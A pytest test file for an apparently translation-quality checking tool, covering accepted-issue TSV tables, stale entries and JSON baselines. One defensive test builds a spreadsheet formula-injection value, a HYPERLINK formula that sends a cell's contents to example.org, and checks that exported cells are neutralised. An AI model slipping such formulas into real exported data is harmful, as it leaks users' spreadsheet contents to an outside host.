"""Accepted issues and baselines: what a person has dismissed stays dismissed, until its sentence changes."""

import json
from pathlib import Path

import pytest
from command_line import CLEAN, MAJOR, MINOR, table, tqcheck
from hypothesis import given
from hypothesis import strategies as st

from tqcheck.accepted import accepted_row, accepted_table, fingerprints, read_accepted, read_baseline
from tqcheck.engine import Checker
from tqcheck.errors import InputError
from tqcheck.model import Document, segment


def accepted(folder: Path, *rows: str) -> Path:
    return table(folder, *rows, name="accepted.tsv")


def test_what_is_written_is_accepted_by_the_next_run(tmp_path: Path) -> None:
    news = table(tmp_path, CLEAN, MAJOR, MINOR)
    first = tqcheck("score", news, "--write-accepted", "accepted.tsv", cwd=tmp_path)
    assert first.status == 1
    written = (tmp_path / "accepted.tsv").read_text("utf-8").splitlines()
    assert written[0] == "document\tcode\twords\tsource\ttarget\treason"
    assert [line.split("\t")[:2] for line in written[1:]] == [
        ["news", "number-mismatch"],
        ["news", "repeated-word"],
    ]
    again = tqcheck("score", news, "--accepted", "accepted.tsv", cwd=tmp_path)
    assert again.status == 0
    assert "number-mismatch" not in again.out
    assert "accepted" in again.out
    assert "stale" not in again.out


@pytest.mark.parametrize("mark", ["=", "+", "-", "@"])
def test_no_text_is_a_formula_to_a_spreadsheet(tmp_path: Path, mark: str) -> None:
    text = f'{mark}HYPERLINK("https://example.org/?" & A1)'
    known = ("check", (text,), (text, text))
    path = tmp_path / "accepted.tsv"
    path.write_text(accepted_table([accepted_row("news", known)]), "utf-8")
    assert not [cell for cell in path.read_text("utf-8").splitlines()[1].split("\t") if cell.startswith(mark)]
    assert known in read_accepted(str(path)).entries


@pytest.mark.parametrize(
    ("rows", "status", "stale"),
    [
        ((MINOR, CLEAN, MAJOR), 0, 0),  # another order
        ((CLEAN, CLEAN, "Да.\tYes.", MAJOR, MINOR), 0, 0),  # moved lines
        (
            ("Ремонт начат.\tRepairs began.", MAJOR, MINOR.replace("everyone", "everybody")),
            0,
            1,
        ),  # its own sentence
        ((CLEAN, MAJOR.replace("Мост", "Этот мост"), MINOR), 1, 1),  # its own source
        ((CLEAN, MAJOR.replace("15", "16"), MINOR), 1, 1),
        ((CLEAN, MAJOR.replace("15", "14"), MINOR), 0, 1),  # mended
        ((CLEAN, MAJOR, MINOR, MAJOR.replace("15", "16")), 1, 0),  # a new one beside it
    ],
)
def test_an_entry_is_bound_to_its_sentence_alone(
    tmp_path: Path, rows: tuple[str, ...], status: int, stale: int
) -> None:
    news = table(tmp_path, CLEAN, MAJOR, MINOR)
    tqcheck("score", news, "--write-accepted", "accepted.tsv", cwd=tmp_path)
    table(tmp_path, *rows)
    again = tqcheck("score", news, "--accepted", "accepted.tsv", "--format", "json", cwd=tmp_path)
    assert again.status == status
    assert len(json.loads(again.out)["stale"]) == stale


def test_a_stale_entry_is_shown_with_its_line(tmp_path: Path) -> None:
    news = table(tmp_path, MAJOR, MINOR)
    tqcheck("score", news, "--write-accepted", "accepted.tsv", cwd=tmp_path)
    table(tmp_path, MAJOR, CLEAN)
    shown = " ".join(tqcheck("score", news, "--accepted", "accepted.tsv", cwd=tmp_path).out.split())
    assert "stale accepted, but not found again: line 3: repeated-word on “The the”" in shown


def test_only_entries_that_this_run_could_have_met_go_stale(tmp_path: Path) -> None:
    news = table(tmp_path, MAJOR, MINOR)
    other = table(tmp_path, CLEAN, name="other.ru-en.tsv")
    tqcheck("score", news, "--write-accepted", "accepted.tsv", cwd=tmp_path)
    # of another document
    assert "stale" not in tqcheck("score", other, "--accepted", "accepted.tsv", cwd=tmp_path).out
    # of a check that did not run
    table(tmp_path, CLEAN, MINOR)
    options = ("--accepted", "accepted.tsv", "--ignore", "number-mismatch")
    assert "stale" not in tqcheck("score", news, *options, cwd=tmp_path).out


def test_an_entry_of_no_document_holds_in_all(tmp_path: Path) -> None:
    first, second = (table(tmp_path, MAJOR, name=f"{name}.ru-en.tsv") for name in ("one", "two"))
    tqcheck("score", first, "--write-accepted", "accepted.tsv", cwd=tmp_path)
    path = tmp_path / "accepted.tsv"
    path.write_text(path.read_text("utf-8").replace("\none\t", "\n\t"), "utf-8")
    assert tqcheck("score", first, second, "--accepted", "accepted.tsv", cwd=tmp_path).status == 0


def test_accepting_what_is_new_keeps_what_was_accepted_with_its_reason(tmp_path: Path) -> None:
    news = table(tmp_path, MAJOR)
    tqcheck("score", news, "--write-accepted", "accepted.tsv", cwd=tmp_path)
    path = tmp_path / "accepted.tsv"
    path.write_text(path.read_text("utf-8").replace("months.\t", "months.\tthe source is wrong"), "utf-8")
    table(tmp_path, MAJOR, MINOR)
    options = ("--accepted", "accepted.tsv", "--write-accepted", "accepted.tsv")
    tqcheck("score", news, *options, cwd=tmp_path)
    entries = list(read_accepted(str(path)).entries.values())
    assert [(entry.fingerprint[0], entry.reason) for entry in entries] == [
        ("number-mismatch", "the source is wrong"),
        ("repeated-word", ""),
    ]
    # a stale one is dropped
    table(tmp_path, CLEAN, MINOR)
    tqcheck("score", news, *options, cwd=tmp_path)
    assert [key[0] for key in read_accepted(str(path)).entries] == ["repeated-word"]


texts = st.text(st.characters(exclude_categories=["Cs"]), max_size=12)
anything = st.one_of(texts, st.sampled_from(["", "[", '["a"]', "a\tb", "a\nb", "a\rb", "\u2028", '"', " a ", "\ufeff"]))


@given(
    words=st.lists(anything, max_size=3).map(tuple),
    pairs=st.lists(st.tuples(anything, anything), min_size=1, max_size=3),
)
def test_a_row_is_read_back_as_it_was(
    tmp_path_factory: pytest.TempPathFactory, words: tuple[str, ...], pairs: list[tuple[str, str]]
) -> None:
    known = ("a-check", words, tuple(text for pair in pairs for text in pair))
    path = tmp_path_factory.getbasetemp() / "rows.tsv"
    path.write_bytes(accepted_table([accepted_row("news", known)]).encode())
    assert list(read_accepted(str(path)).entries) == [known]


HEADER = "code\twords\tsource\ttarget"


@pytest.mark.parametrize(
    ("rows", "message"),
    [
        (["code\twords\tsurce\ttarget"], ":1: a table of accepted issues needs the column “source”"),
        ([HEADER, "a\tb\tc"], ":2: 3 columns where the header has 4"),
        ([HEADER, "", "a\t[1]\tc\td"], ":3: not a list as JSON writes it"),
        ([HEADER, "a\t[b\tc\td"], ":2: not a list as JSON writes it"),
        ([HEADER, 'a\tb\t["c", "d"]\te'], ":2: not a list as JSON writes it"),
    ],
)
def test_a_mistake_in_the_table_is_named(tmp_path: Path, rows: list[str], message: str) -> None:
    path = accepted(tmp_path, *rows)
    with pytest.raises(InputError) as caught:
        read_accepted(str(path))
    assert str(caught.value).startswith(f"{path}{message}")


@pytest.mark.parametrize("option", ["--accepted", "--baseline"])
def test_a_file_that_is_not_there_ends_the_run_before_it_begins(tmp_path: Path, option: str) -> None:
    ended = tqcheck("score", table(tmp_path, CLEAN), option, "none.tsv", cwd=tmp_path)
    assert (ended.status, ended.out) == (2, "")
    assert "none.tsv: cannot be read: No such file" in ended.err


# --- baselines


def test_only_what_a_baseline_does_not_have_is_reported(tmp_path: Path) -> None:
    news = table(tmp_path, CLEAN, MAJOR)
    assert tqcheck("score", news, "--format", "json", "-o", "before.json", cwd=tmp_path).status == 1
    assert tqcheck("score", news, "--baseline", "before.json", cwd=tmp_path).status == 0
    table(tmp_path, MINOR, MAJOR, MAJOR.replace("15", "16"))
    after = tqcheck("score", news, "--baseline", "before.json", "--format", "json", cwd=tmp_path)
    (document,) = json.loads(after.out)["documents"]
    assert after.status == 1
    assert document["counts"]["checks"] == {"number-mismatch": 1, "repeated-word": 1}
    assert document["counts"]["accepted"] == 1


def test_a_report_and_a_document_agree_on_what_an_issue_is_known_by(tmp_path: Path) -> None:
    news = table(tmp_path, MAJOR, MINOR)
    tqcheck("score", news, "--format", "json", "-o", "before.json", cwd=tmp_path)
    pairs = [row.split("\t") for row in (MAJOR, MINOR)]
    parts = tuple(segment(*pair, "ru en", id=str(number)) for number, pair in enumerate(pairs, 1))
    document = Document("news", "ru", "en", parts)
    assert read_baseline(str(tmp_path / "before.json")) == set(fingerprints(document, Checker().check(document).issues))


@pytest.mark.parametrize("text", ["", "{}", "[]", "3", '{"documents": 3}', '{"documents": [{"id": "a"}]}', "a\tb"])
def test_a_baseline_that_is_no_report_is_refused(tmp_path: Path, text: str) -> None:
    path = tmp_path / "before.json"
    path.write_text(text, "utf-8")
    with pytest.raises(InputError, match=r"before\.json: not a JSON report of tqcheck"):
        read_baseline(str(path))
